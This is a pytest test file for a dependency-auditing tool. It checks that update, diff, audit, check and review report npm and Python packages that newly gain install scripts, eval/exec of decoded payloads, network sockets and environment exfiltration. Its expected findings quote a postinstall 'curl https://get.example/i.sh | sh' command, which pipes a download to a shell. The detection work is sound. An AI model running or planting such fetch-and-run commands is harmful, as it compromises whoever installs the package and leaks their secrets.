"""One project whose benign dependencies turn, and what each command shows of it, with path, file and line.

A new release adds a postinstall that pipes a download to a shell, decodes and runs a payload, sends the environment
over a socket, and requires a package that nobody signed. The project has Python and npm packages, since each kind of
code has its own way to do so.
"""

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.turned_project import TurnedProject, turning

THROUGH = "from: package.json -> gallery 1.0.0 -> thumbs 2.1.0"
OF_NPM = (
    "gains install-script: package/package.json:1 via postinstall: curl https://get.example/i.sh | sh",
    "gains dynamic-code: package/index.js:3 via eval",
    "gains network: package/index.js:6 via net.connect",
    "gains environment: package/index.js:7 via process.env",
    "gains credentials: package/index.js:7 via process.env as a whole, sent",
    "gains encoded-payload: package/index.js:3 via eval of decoded text",
    "gains deferred-dependency: package/package.json:1 via curl https://get.example/i.sh | sh",
)
OF_PYTHON = (
    "gains dynamic-code: dates/zone.py:5 via builtins.exec",
    "gains network: dates/zone.py:9 via socket.create_connection",
    "gains environment: dates/zone.py:10 via os.environ",
    "gains encoded-payload: dates/zone.py:5 via builtins.exec",
)
GAINED = (*OF_NPM, *OF_PYTHON)


@pytest.fixture
def project(tmp_path: Path) -> Iterator[TurnedProject]:
    """The project, whose registries have the new releases now; nobody ever looked at any code."""
    with turning(tmp_path) as found:
        found.turn()
        yield found


def missing(lines: tuple[str, ...], text: str) -> list[str]:
    """The lines that a text has not."""
    said = text.splitlines()
    return [line for line in lines if not any(one.strip() == line for one in said)]


def test_the_story(project: TurnedProject) -> None:
    """`update --dry-run`, `diff`, `audit` and `check`, in the order in which somebody meets them."""
    before = project.lock.read_bytes()
    done = project.must("update", "--dry-run", "--refresh")
    assert missing((*GAINED, THROUGH, f"{THROUGH} -> pixel-map 1.0.0", "not signed"), done.out) == []
    assert "warning[release-unsigned]: pixel-map 1.0.0" in done.out
    assert project.lock.read_bytes() == before

    project.must("update", "--refresh")
    done = project.must("diff")
    assert missing((*GAINED, THROUGH, f"{THROUGH} -> pixel-map 1.0.0", "not signed"), done.out) == []
    assert "note:" not in done.err  # the dry run fetched what is compared

    found = {
        (one["code"], one["subject"]): one
        for one in project.must("audit", "--fetch", "--format", "json").json["findings"]
    }
    gained = found["capability-gained", "thumbs 2.1.0"]
    assert gained["expected"] == "what 2.0.0 could do"
    assert gained["found"] == OF_NPM[0].removeprefix("gains ")
    assert [one["value"] for one in gained["facts"]] == [one.removeprefix("gains ") for one in OF_NPM[1:]]
    assert gained["path"] == ["package.json", "gallery 1.0.0", "thumbs 2.1.0"]
    assert gained["hints"] == ["holdfast review thumbs"]
    assert ("capability-gained", "dates 3.2.0") in found
    assert "package/index.js:3" in found["payload-encoded", "thumbs 2.1.0"]["found"]
    assert "dates/zone.py:5" in found["payload-encoded", "dates 3.2.0"]["found"]
    assert not [
        one for one in found if one[1] in ("pixel-map 1.0.0", "zone-data 1.0.0") and one[0] == "capability-gained"
    ]
    assert "new-package: npm:pixel-map 1.0.0" in project.must("audit").out

    done = project.run("check")
    assert done.code == 1
    for subject in ("thumbs 2.1.0", "pixel-map 1.0.0", "dates 3.2.0", "zone-data 1.0.0"):
        assert f"error[change-unapproved]: {subject}" in done.out
    assert f"{THROUGH}\n" in done.out
    unsigned = done.out[done.out.index("error[signature-missing]: pixel-map 1.0.0") :].partition("\n\n")[0]
    assert f"{THROUGH} -> pixel-map 1.0.0" in unsigned


def test_after_somebody_approved_it_check_still_knows_the_line(project: TurnedProject) -> None:
    """What an approval recorded is what a policy of later judges, offline: capability, file, line and path."""
    project.must("update", "--refresh")
    project.manifest.write_text(project.manifest.read_text().replace('require-signatures = ["npm:*"]', ""))
    before = project.files()
    done = project.must("approve", "--all", "--reason", "did not look", *project.key("ann"))
    assert "\ndates has network: dates/zone.py:9 via socket.create_connection\n" in done.out
    assert "zone-data has" not in done.out
    seen = {one.name: one.seen for one in project.newest(before).act.packages}
    assert dict(seen["dates"].places or ())["network"] == "dates/zone.py:9 via socket.create_connection"
    assert (seen["zone-data"].places, seen["zone-data"].looked_at) == ((), ())
    project.must("check")
    text = project.manifest.read_text()
    denied = 'policy]\ndeny-capabilities = ["install-script", "deserialisation"]\n'
    project.manifest.write_text(text.replace("policy]\n", denied))
    project.environment["HOLDFAST_CACHE_DIR"] = str(project.folder.parent / "empty")
    done = project.run("check")
    assert done.code == 1
    said = done.out[done.out.index("error[capability-denied]: thumbs 2.1.0") :].partition("\n\n")[0]
    assert "found: install-script: package/package.json:1 via postinstall: curl https://get.example/i.sh | sh" in said
    assert THROUGH in said
    assert "capability-denied]: dates" not in done.out
    assert "none" in project.must("policy", "explain", "zone-data").out


def test_the_review_shows_what_it_fetched(project: TurnedProject) -> None:
    """`review --fetch` says it of every package; without, and with an empty store, that it was not looked at."""
    project.must("update", "--refresh")
    done = project.run("review")
    assert done.out.count("not looked at: 2 archives are not in the store") == 2
    assert "`holdfast review --fetch` has them downloaded" in done.err
    shown = " ".join(project.run("review", "--fetch").out.split())
    assert [line for line in GAINED if line not in shown] == []
    assert "its code no capability was seen in it" in shown  # of the two new ones


def test_a_record_serves_where_the_release_before_is_gone(project: TurnedProject, tmp_path: Path) -> None:
    """`audit` compares with what the last approval recorded where the old archive cannot be had any more."""
    project.must("update", "--refresh")
    project.manifest.write_text(project.manifest.read_text().replace('require-signatures = ["npm:*"]', ""))
    project.must("approve", "--all", "--reason", "did not look", *project.key("ann"))
    project.publish_worse()
    project.must("update", "dates", "--refresh")
    project.environment["HOLDFAST_CACHE_DIR"] = str(tmp_path / "empty")
    project.index.remove("dates-3.2.0-py3-none-any.whl")
    done = project.run("audit", "--fetch", "--format", "json")
    (gained,) = [one for one in done.json["findings"] if one["code"] == "capability-gained"]
    assert (gained["subject"], gained["expected"]) == ("dates 3.3.0", "what 3.2.0 could do")
    assert gained["found"] == "subprocess: dates/zone.py:2 via os.system"
    assert gained["facts"] == []


def test_machines_are_told_before_it_happens(project: TurnedProject) -> None:
    """`update --dry-run --format json` has a finding for each package that gains something."""
    done = project.must("update", "--dry-run", "--refresh", "--format", "json")
    gained = {one["subject"]: one for one in done.json["findings"] if one["code"] == "capability-gained"}
    assert sorted(gained) == ["dates 3.2.0", "thumbs 2.1.0"]
    assert gained["dates 3.2.0"]["path"] == ["pyproject.toml", "stripes 1.0.0", "dates 3.2.0"]
